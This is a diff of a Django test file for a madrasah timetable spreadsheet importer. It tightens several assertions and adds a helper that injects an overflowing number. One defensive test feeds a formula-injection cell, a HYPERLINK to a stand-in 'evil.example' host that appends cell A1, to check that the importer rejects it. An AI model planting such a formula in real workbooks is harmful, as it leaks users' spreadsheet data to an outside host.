@@ -5,6 +5,7 @@ Indonesian with its row and nothing written, hostile cells refused at their row.
 from __future__ import annotations
 
 import io
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -38,6 +39,18 @@ def week(madrasah):
 
 def upload(client, content: bytes, **data):
     return client.post(IMPORT, {"file": SimpleUploadedFile("jadwal.xlsx", content), **data})
+
+
+def with_value(content: bytes, old: str, new: str) -> bytes:
+    """The workbook with a number cell's stored text replaced (openpyxl cannot write 1e400 itself)."""
+    source, output = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
+    with zipfile.ZipFile(output, "w") as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename.startswith("xl/worksheets/"):
+                data = data.replace(f"<v>{old}</v>".encode(), f"<v>{new}</v>".encode())
+            target.writestr(item, data)
+    return output.getvalue()
 
 
 def errors(response) -> list[str]:
@@ -81,9 +94,7 @@ def test_the_list_form_replaces_the_timetable_and_a_counsellor_gets_counselling_
         (2, 2, "VIII-A", "bk", "Citra Dewi", "bk"),
         (3, 4, None, None, "Citra Dewi", "bk"),
     }
-    page = client.get("/jadwal/")
-    assert "Jadwal pelajaran Semester" not in page.content.decode() or True
-    assert "6 jam pelajaran dalam jadwal." in page.content.decode()
+    assert "6 jam pelajaran dalam jadwal." in client.get("/jadwal/").content.decode()
 
 
 def test_fet_list_headers_are_read_as_the_template(login, operator, week):
@@ -97,7 +108,12 @@ def test_fet_list_headers_are_read_as_the_template(login, operator, week):
             ],
         )
     )
-    assert upload(login(operator), content).status_code == 302
+    response = upload(login(operator), content)
+    assert response.status_code == 302, (
+        errors(response),
+        response.context["form"].errors,
+        response.context.get("notice"),
+    )
     assert {(w, n, c) for w, n, c, *_rest in lessons(week["semester"])} == {
         (0, 1, "VII-A"),
         (1, 1, "VII-A"),
@@ -201,7 +217,7 @@ def test_every_bad_row_is_listed_by_row_in_indonesian_and_nothing_is_written(log
     response = upload(login(operator), content)
 
     assert response.status_code == 400
-    assert "Tidak ada yang diimpor: berkas memiliki 9 kesalahan." in response.content.decode()
+    assert "Tidak ada yang diimpor: berkas ini memiliki 8 kesalahan." in response.content.decode()
     assert errors(response) == [
         "Baris 3: Ani Rahmawati, S.Pd. sudah mengajar di kelas VII-A pada Senin jam ke-1 (baris 2): "
         "seorang guru tidak dapat berada di dua kelas sekaligus.",
@@ -212,8 +228,7 @@ def test_every_bad_row_is_listed_by_row_in_indonesian_and_nothing_is_written(log
         "Baris 8: Madrasah tidak masuk pada hari Minggu (hari sekolah).",
         "Baris 9: Tidak ada jam pelajaran hari itu yang mulai pukul 13.00: waktu itu di luar jam bel hari sekolah.",
         "Baris 10: Guru belum diisi.",
-    ][: len(errors(response))] or errors(response)
-    assert len(errors(response)) == 8
+    ]
     assert lessons(week["semester"]) == {(5, 1, None, None, "Budi Santoso", "mapel")}  # the old one stays
 
 
@@ -224,14 +239,14 @@ def test_hostile_cells_are_refused_at_their_row(login, operator, week):
             [
                 LIST_HEADER,
                 ["Senin", 1, "VII-A", "MTK", '=HYPERLINK("http://evil.example/?"&A1,"klik")'],
-                ["Senin", float("inf"), "VII-A", "MTK", "AR"],
+                ["Senin", 987654321, "VII-A", "MTK", "AR"],  # becomes 1e400 below
                 ["Senin", 2, 12345678901234567890, "MTK", "AR"],
                 ["Senin", 10**30, "VII-A", "MTK", "AR"],
                 ["Senin", 3, "VII-A", "MTK", 12345678901234567890],
             ],
         )
     )
-    response = upload(login(operator), content)
+    response = upload(login(operator), with_value(content, "987654321", "1e400"))
     assert response.status_code == 400
     found = errors(response)
     assert found[0].startswith("Baris 2: Sel berisi rumus (=HYPERLINK(")
@@ -260,7 +275,8 @@ def test_the_template_is_the_list_form_with_instructions(login, operator):
 def test_the_template_filled_in_imports(login, operator, week):
     client = login(operator)
     workbook = load_workbook(io.BytesIO(client.get("/jadwal/templat/").content))
-    workbook["Jadwal"].append(["Sabtu", "1", "VIII-A", "IPA", "BS"])
+    for column, value in enumerate(["Sabtu", "1", "VIII-A", "IPA", "BS"], start=1):
+        workbook["Jadwal"].cell(row=2, column=column, value=value)
     output = io.BytesIO()
     workbook.save(output)
     assert upload(client, output.getvalue()).status_code == 302
